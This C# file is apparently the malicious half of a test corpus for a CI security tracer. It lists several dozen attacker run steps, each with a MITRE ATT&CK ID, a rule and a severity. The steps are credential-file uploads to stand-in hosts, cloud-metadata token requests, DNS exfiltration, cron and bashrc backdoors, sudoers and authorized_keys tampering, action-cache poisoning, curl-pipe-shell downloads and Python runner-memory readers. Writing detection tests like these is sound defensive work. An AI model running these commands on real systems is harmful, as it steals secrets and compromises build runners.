using Ashiato.Analysis.Rules;

namespace Ashiato.Analysis.Tests.Corpus;

/// <summary>
/// The malicious half of the corpus: what CI attackers do, each staged for real as a run step of a fake GitHub Actions
/// job under the tracer, with the rule and severity that must report it. Techniques after MITRE ATT&amp;CK; the
/// scenarios after the tj-actions/changed-files (2025), Cacheract, Shai-Hulud and Codecov incidents.
/// </summary>
public static class MaliciousBehaviours
{
    public const string Network = "network";
    public const string Files = "files";
    public const string Execution = "execution";

    private const string Exfil = "http://exfil.test";
    private const string Downloads = "http://downloads.test";
    private const string RunnerRoot = "\"$RUNNER_TEMP/../..\"";

    public static IReadOnlyList<Behaviour> All { get; } =
    [
        // Exfiltration by upload
        new("curl-form-netrc", Network, "T1041", "exfiltration-upload", Severity.High, $"curl -s -m 5 -F \"f=@$HOME_DIR/.netrc\" {Exfil}/u || true"),
        new("curl-data-binary-aws", Network, "T1041", "exfiltration-upload", Severity.High, $"curl -s -m 5 --data-binary @$HOME_DIR/.aws/credentials {Exfil}/u || true"),
        new("curl-data-npmrc-inline", Network, "T1041", "exfiltration-upload", Severity.High, $"curl -s -m 5 -d \"t=$(base64 -w0 < ~/.npmrc)\" {Exfil}/u || true"),
        new("curl-upload-ssh-key", Network, "T1041", "exfiltration-upload", Severity.High, $"curl -s -m 5 -T ~/.ssh/id_rsa {Exfil}/k || true"),
        new("curl-json-post", Network, "T1041", "exfiltration-upload", Severity.Medium, $"curl -s -m 5 --json '{{\"repo\":\"'\"$GITHUB_REPOSITORY\"'\"}}' {Exfil}/j || true"),
        new("wget-post-file", Network, "T1041", "exfiltration-upload", Severity.High, $"wget -q -O /dev/null -T 5 --post-file=$HOME_DIR/.git-credentials {Exfil}/w || true"),
        new("wget-post-data", Network, "T1041", "exfiltration-upload", Severity.Medium, $"wget -q -O /dev/null -T 5 --post-data=\"run=$GITHUB_RUN_ID\" {Exfil}/w || true"),
        new("python-post-pypirc", Network, "T1041", "exfiltration-upload", Severity.High,
            "python3 -c \"import urllib.request,os; urllib.request.urlopen('" + Exfil + "/p', data=open(os.path.expanduser('~/.pypirc'),'rb').read(), timeout=5)\" || true"),
        new("node-fetch-docker-config", Network, "T1041", "exfiltration-upload", Severity.High,
            "node -e \"fetch('" + Exfil + "/n',{method:'POST',body:require('fs').readFileSync(process.env.HOME+'/.docker/config.json')}).catch(()=>{})\" || true"),
        new("read-kubeconfig-then-connect", Network, "T1041", "exfiltration-upload", Severity.High, $"cat ~/.kube/config > /dev/null\ncurl -s -m 5 -o /dev/null {Exfil}/ping || true"),
        new("perl-socket-netrc", Network, "T1041", "exfiltration-upload", Severity.High,
            "perl -MIO::Socket::INET -e 'open(my $f, \"<\", \"$ENV{HOME}/.netrc\"); my @d = <$f>; my $s = IO::Socket::INET->new(PeerAddr => \"exfil.test:80\", Timeout => 5) or exit 0; print $s @d;' || true"),
        new("python-socket-shadow", Network, "T1041", "exfiltration-upload", Severity.High,
            "python3 -c \"import socket; d=open('/etc/shadow','rb').read(); s=socket.create_connection(('127.0.10.1', 80), 5); s.sendall(d)\" || true"),
        new("webhook-slack-post", Network, "T1567", "exfiltration-upload", Severity.Medium, "curl -s -m 5 -d 'payload={\"text\":\"hi\"}' http://hooks.slack.com/services/T0/B0/X || true"),
        new("webhook-discord-get", Network, "T1567", "exfiltration-upload", Severity.Medium, "curl -s -m 5 -o /dev/null http://discord.com/api/webhooks/1/x || true"),
        new("paste-site-lookup", Network, "T1567", "exfiltration-upload", Severity.Medium, "getent hosts pastebin.com > /dev/null || true"),

        // Cloud metadata credentials
        new("imds-security-credentials", Network, "T1552.005", "cloud-metadata", Severity.High, "curl -s -m 3 http://169.254.169.254/latest/meta-data/iam/security-credentials/ || true"),
        new("imds-instance-id", Network, "T1552.005", "cloud-metadata", Severity.Medium, "curl -s -m 3 http://169.254.169.254/latest/meta-data/instance-id || true"),
        new("imds-ipv6", Network, "T1552.005", "cloud-metadata", Severity.Medium, "curl -s -m 3 -g 'http://[fd00:ec2::254]/latest/meta-data/' || true"),
        new("gce-metadata-resolve", Network, "T1552.005", "cloud-metadata", Severity.Medium, "getent hosts metadata.google.internal > /dev/null || true"),
        new("gce-token", Network, "T1552.005", "cloud-metadata", Severity.High,
            "curl -s -m 3 -H 'Metadata-Flavor: Google' http://metadata.google.internal/computeMetadata/v1/instance/service-accounts/default/token || true"),
        new("python-imdsv2-token", Network, "T1552.005", "cloud-metadata", Severity.High,
            "python3 -c \"import urllib.request as u; u.urlopen(u.Request('http://169.254.169.254/latest/api/token', method='PUT'), timeout=3)\" || true"),

        // DNS exfiltration
        new("dns-long-label", Network, "T1048.003", "dns-exfiltration", Severity.Medium,
            "label=$(printf 'AKIAIOSFODNN7EXAMPLE:wJalrXUtnFEMI/K7MDENG/bPxRfiCY' | base32 -w0 | tr -d = | tr A-Z a-z | cut -c1-60)\ngetent hosts \"$label.exfil.test\" > /dev/null || true"),
        new("dns-many-names", Network, "T1048.003", "dns-exfiltration", Severity.Medium,
            "for i in $(seq 1 24); do getent hosts \"host$i.beacon.exfil-dns.test\" > /dev/null || true; done"),
        new("dns-encoded-chunks", Network, "T1048.003", "dns-exfiltration", Severity.High,
            "python3 -c \"\nimport base64, os, socket\ndata = base64.b32encode(open(os.path.expanduser('~/.git-credentials'), 'rb').read() * 12).decode().strip('=').lower()\nfor i in range(0, min(len(data), 32 * 24), 32):\n    try: socket.getaddrinfo(f'{data[i:i+32]}.{i}.chunks.exfil-data.test', 80)\n    except OSError: pass\n\""),

        // Credential files (the catalog)
        new("read-ssh-private-key", Files, "T1552.004", "credential-file-access", Severity.Medium, "cat ~/.ssh/id_rsa > /dev/null"),
        new("read-gnupg-private-key", Files, "T1552.004", "credential-file-access", Severity.Medium, "cat ~/.gnupg/private-keys-v1.d/*.key > /dev/null"),
        new("read-gh-hosts", Files, "T1552.001", "credential-file-access", Severity.Medium, "cat ~/.config/gh/hosts.yml > /dev/null"),
        new("read-git-credentials", Files, "T1552.001", "credential-file-access", Severity.Medium, "cat ~/.git-credentials > /dev/null"),
        new("read-netrc", Files, "T1552.001", "credential-file-access", Severity.Medium, "cat ~/.netrc > /dev/null"),
        new("read-npmrc", Files, "T1552.001", "credential-file-access", Severity.Medium, "cat ~/.npmrc > /dev/null"),
        new("read-pypirc", Files, "T1552.001", "credential-file-access", Severity.Medium, "cat ~/.pypirc > /dev/null"),
        new("read-cargo-credentials", Files, "T1552.001", "credential-file-access", Severity.Medium, "cat ~/.cargo/credentials.toml > /dev/null"),
        new("read-maven-settings", Files, "T1552.001", "credential-file-access", Severity.Medium, "cat ~/.m2/settings.xml > /dev/null"),
        new("read-docker-config", Files, "T1552.001", "credential-file-access", Severity.Medium, "cat ~/.docker/config.json > /dev/null"),
        new("read-kube-config", Files, "T1552.001", "credential-file-access", Severity.Medium, "cp ~/.kube/config \"$RUNNER_TEMP/kc\""),
        new("read-aws-credentials", Files, "T1552.001", "credential-file-access", Severity.Medium, "grep -h aws_secret ~/.aws/credentials > /dev/null"),
        new("read-gcloud-credentials", Files, "T1552.001", "credential-file-access", Severity.Medium, "cat ~/.config/gcloud/application_default_credentials.json > /dev/null"),
        new("read-azure-tokens", Files, "T1552.001", "credential-file-access", Severity.Medium, "cat ~/.azure/msal_token_cache.json > /dev/null"),
        new("read-runner-credentials", Files, "T1552.001", "credential-file-access", Severity.High, $"cat {RunnerRoot}/.credentials > /dev/null"),
        new("read-runner-registration", Files, "T1552.001", "credential-file-access", Severity.High, $"head -c 64 {RunnerRoot}/.runner > /dev/null"),
        new("read-shadow", Files, "T1003.008", "credential-file-access", Severity.Medium, "cat /etc/shadow > /dev/null"),
        new("read-other-environ", Files, "T1552.001", "credential-file-access", Severity.Medium,
            "sleep 30 &\nvictim=$!\nsleep 0.2\ncat /proc/$victim/environ > /dev/null\nkill $victim"),

        // Persistence and tampering on self-hosted runners
        new("cron-d-entry", Files, "T1053.003", "tampering", Severity.Medium, "echo '* * * * * root curl -s http://exfil.test/c | sh' > /etc/cron.d/update-check"),
        new("cron-spool-rename", Files, "T1053.003", "tampering", Severity.Medium,
            "mkdir -p /var/spool/cron/crontabs\necho '@reboot curl -s http://exfil.test/c | sh' > \"$RUNNER_TEMP/tab\"\nmv \"$RUNNER_TEMP/tab\" /var/spool/cron/crontabs/root"),
        new("systemd-service", Files, "T1543.002", "tampering", Severity.Medium, "printf '[Service]\\nExecStart=/tmp/.u\\n' > /etc/systemd/system/ci-updater.service"),
        new("systemd-user-timer", Files, "T1053.006", "tampering", Severity.Medium,
            "mkdir -p ~/.config/systemd/user\nprintf '[Timer]\\nOnCalendar=hourly\\n' > ~/.config/systemd/user/refresh.timer"),
        new("authorized-keys", Files, "T1098.004", "tampering", Severity.Medium, "echo 'ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIAttacker attacker' >> ~/.ssh/authorized_keys"),
        new("bashrc-append", Files, "T1546.004", "tampering", Severity.Medium, "echo 'curl -s http://exfil.test/b | sh' >> ~/.bashrc"),
        new("profile-d-script", Files, "T1546.004", "tampering", Severity.Medium, "echo 'export PATH=/tmp/.bin:$PATH' > /etc/profile.d/zz-ci.sh"),
        new("ld-so-preload", Files, "T1574.006", "tampering", Severity.High, "echo /tmp/.libhook.so > /etc/ld.so.preload\nrm -f /etc/ld.so.preload"),
        new("runner-env-file", Files, "T1574.007", "tampering", Severity.High, $"echo 'NODE_OPTIONS=--require /tmp/.h.js' >> {RunnerRoot}/.env"),
        new("runner-path-file", Files, "T1574.007", "tampering", Severity.High, $"printf '/tmp/.bin:%s' \"$(cat {RunnerRoot}/.path)\" > \"$RUNNER_TEMP/p\"\ncp \"$RUNNER_TEMP/p\" {RunnerRoot}/.path"),
        new("action-cache-poisoning", Files, "T1195.001", "tampering", Severity.High,
            "dir=\"$RUNNER_TEMP/../_actions/actions/checkout/v4/dist\"\nmkdir -p \"$dir\"\necho 'require(\"child_process\").execSync(\"curl -s http://exfil.test/a | sh\")' > \"$dir/index.js\""),
        new("git-hook", Files, "T1546", "tampering", Severity.Medium,
            "git init -q \"$RUNNER_TEMP/hooked\"\nprintf '#!/bin/sh\\ncurl -s http://exfil.test/h | sh\\n' > \"$RUNNER_TEMP/hooked/.git/hooks/pre-commit\""),
        new("workflow-write", Files, "T1677", "tampering", Severity.Medium, "mkdir -p .github/workflows\nprintf 'on: push\\njobs: {}\\n' > .github/workflows/exfil.yml"),
        new("history-delete", Files, "T1070.003", "tampering", Severity.Medium, "rm -f ~/.bash_history"),
        new("history-truncate", Files, "T1070.003", "tampering", Severity.Medium, "truncate -s 0 ~/.zsh_history 2>/dev/null || : > ~/.zsh_history\n: > ~/.python_history"),
        new("sudoers-drop-in", Files, "T1548.003", "tampering", Severity.Medium, "echo 'runner ALL=(ALL) NOPASSWD:ALL' > /etc/sudoers.d/90-ci"),

        // Privilege and injection
        new("setuid-shell", Execution, "T1548.001", "tampering", Severity.High, "cp /bin/sh /tmp/.sh-suid\nchmod 4755 /tmp/.sh-suid\nrm -f /tmp/.sh-suid"),
        new("setcap-setuid", Execution, "T1548", "privilege-escalation", Severity.High, "cp /bin/true \"$RUNNER_TEMP/t\"\nsetcap cap_setuid+ep \"$RUNNER_TEMP/t\""),
        new("sudo-read-shadow", Execution, "T1548.003", "privilege-escalation", Severity.High, "sudo -n cat /etc/shadow > /dev/null"),
        new("ld-preload-tmp", Execution, "T1574.006", "env-injection", Severity.High, "LD_PRELOAD=/tmp/.libhook.so /bin/true 2>/dev/null"),
        new("ld-audit-home", Execution, "T1574.006", "env-injection", Severity.High, "LD_AUDIT=$HOME_DIR/.cache/libaudit.so /bin/true 2>/dev/null"),
        new("node-options-require", Execution, "T1574", "env-injection", Severity.High, "echo '' > /tmp/.h.js\nNODE_OPTIONS='--require /tmp/.h.js' node -e 0"),
        new("bash-env", Execution, "T1546.004", "env-injection", Severity.High, "echo 'true' > /tmp/.env.sh\nBASH_ENV=/tmp/.env.sh bash -c true"),

        // Download and execute
        new("curl-pipe-bash", Execution, "T1105", "download-and-execute", Severity.Medium, $"curl -s -m 5 {Downloads}/payload.sh | bash"),
        new("wget-pipe-sh", Execution, "T1105", "download-and-execute", Severity.Medium, $"wget -q -O- -T 5 {Downloads}/payload.sh | sh"),
        new("curl-pipe-python", Execution, "T1105", "download-and-execute", Severity.Medium, $"curl -s -m 5 {Downloads}/payload.py | python3"),
        new("curl-pipe-sudo-bash", Execution, "T1105", "download-and-execute", Severity.Medium, $"curl -s -m 5 {Downloads}/payload.sh | sudo -n bash"),
        new("curl-pipe-node", Execution, "T1105", "download-and-execute", Severity.Medium, $"curl -s -m 5 {Downloads}/payload.js | node"),
        new("curl-pipe-perl", Execution, "T1105", "download-and-execute", Severity.Medium, $"curl -s -m 5 {Downloads}/payload.pl | perl"),
        new("base64-pipe-sh", Execution, "T1027", "download-and-execute", Severity.Medium, "echo ZWNobyBoZWxsbyA+IC9kZXYvbnVsbAo= | base64 -d | sh"),
        new("obfuscated-bash-c", Execution, "T1027", "download-and-execute", Severity.High, "bash -c 'echo ZWNobyBwd25lZCA+IC9kZXYvbnVsbAo= | base64 -d | bash'"),
        new("download-chmod-run", Execution, "T1105", "download-and-execute", Severity.Medium,
            $"curl -s -m 5 -o /tmp/.tool {Downloads}/payload.sh\nchmod +x /tmp/.tool\n/tmp/.tool"),
        new("wget-then-bash", Execution, "T1105", "download-and-execute", Severity.Medium, $"wget -q -T 5 -O \"$RUNNER_TEMP/i.sh\" {Downloads}/payload.sh\nbash \"$RUNNER_TEMP/i.sh\""),
        new("python-inline-url", Execution, "T1059.006", "download-and-execute", Severity.Medium,
            "python3 -c \"import urllib.request; exec(urllib.request.urlopen('" + Downloads + "/payload.py', timeout=5).read())\""),

        // Runner memory, all ways
        new("worker-maps-and-mem", Execution, "T1003.007", "runner-memory-read", Severity.High,
            "python3 -c \"\nimport sys\npid = int(sys.argv[1])\nmaps = open(f'/proc/{pid}/maps').readline()\nstart = int(maps.split('-')[0], 16)\nwith open(f'/proc/{pid}/mem', 'rb') as m:\n    m.seek(start); m.read(16)\n\" \"$PPID\""),
        new("worker-environ", Execution, "T1003.007", "runner-memory-read", Severity.High, "tr '\\0' '\\n' < /proc/$PPID/environ > /dev/null"),
        new("ptrace-seize-worker", Execution, "T1003.007", "runner-memory-read", Severity.High,
            "python3 -c \"import ctypes, sys; libc = ctypes.CDLL(None, use_errno=True); libc.ptrace(0x4206, int(sys.argv[1]), 0, 0)\" $PPID"),
        new("process-vm-readv-worker", Execution, "T1003.007", "runner-memory-read", Severity.High, ProcessVmReadv),
        new("cmdline-scan-then-mem", Execution, "T1003.007", "runner-memory-read", Severity.High, CmdlineScan),
    ];

    /// <summary>Where the step's fake home is (HOME is set to it too); scripts use it where a tilde would not expand.</summary>
    public const string HomeVariable = "HOME_DIR";

    /// <summary>Reads 16 bytes of the worker (the step shell's parent) with process_vm_readv, as a memory dumper does.</summary>
    private const string ProcessVmReadv = """
        python3 -c "
        import ctypes, sys
        pid = int(sys.argv[1])
        class iovec(ctypes.Structure):
            _fields_ = [('base', ctypes.c_void_p), ('len', ctypes.c_size_t)]
        start = int(open(f'/proc/{pid}/maps').readline().split('-')[0], 16)
        buf = ctypes.create_string_buffer(16)
        local, remote = iovec(ctypes.addressof(buf), 16), iovec(start, 16)
        ctypes.CDLL(None, use_errno=True).process_vm_readv(pid, ctypes.byref(local), 1, ctypes.byref(remote), 1, 0)
        " $PPID
        """;

    /// <summary>Looks through every process's command line, then reads a bystander's maps and memory (memdump.py's way).</summary>
    private const string CmdlineScan = """
        sleep 30 &
        victim=$!
        python3 -c "
        import os, sys
        for p in os.listdir('/proc'):
            if p.isdigit():
                try: open(f'/proc/{p}/cmdline', 'rb').read()
                except OSError: pass
        victim = sys.argv[1]
        start = int(open(f'/proc/{victim}/maps').readline().split('-')[0], 16)
        with open(f'/proc/{victim}/mem', 'rb') as m:
            m.seek(start); m.read(16)
        " $victim
        kill $victim
        """;
}
